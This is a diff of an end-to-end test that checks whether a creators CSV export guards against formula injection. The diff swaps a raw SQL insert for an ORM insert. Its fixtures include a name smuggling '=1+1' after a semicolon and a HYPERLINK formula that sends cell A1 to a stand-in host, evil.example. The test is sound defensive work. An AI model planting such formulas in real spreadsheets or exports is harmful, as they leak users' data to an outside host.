@@ -1,5 +1,6 @@
 import Papa from 'papaparse';
-import { openE2eDatabase } from '../support/database';
+import { creators } from '../../src/lib/server/db/schema';
+import { openE2eDatabase, openE2eDb } from '../support/database';
 import { ApiUser, expect, test } from '../support/support';
 
 // CSV injection (issue 15): Excel in German or French splits on `;`, so a formula may start after
@@ -15,10 +16,9 @@ test('a creator named x;=1+1 exports quoted and guarded, and reads back as the s
 	const owner = await ApiUser.signUp(baseURL!, 'CSV injection');
 	const name = 'x;=1+1';
 	const notes = 'a,=HYPERLINK("http://evil.example/?"&A1,"x")';
-	await db.execute({
-		sql: 'INSERT INTO creators (id, workspace_id, name, notes) VALUES (?, ?, ?, ?)',
-		args: [`cr-${owner.workspaceId}`, owner.workspaceId, name, notes]
-	});
+	await openE2eDb(db)
+		.insert(creators)
+		.values({ id: `cr-${owner.workspaceId}`, workspaceId: owner.workspaceId, name, notes });
 
 	const response = await owner.api.get(`/w/${owner.workspaceId}/creators/export.csv`);
 	expect(response.status()).toBe(200);
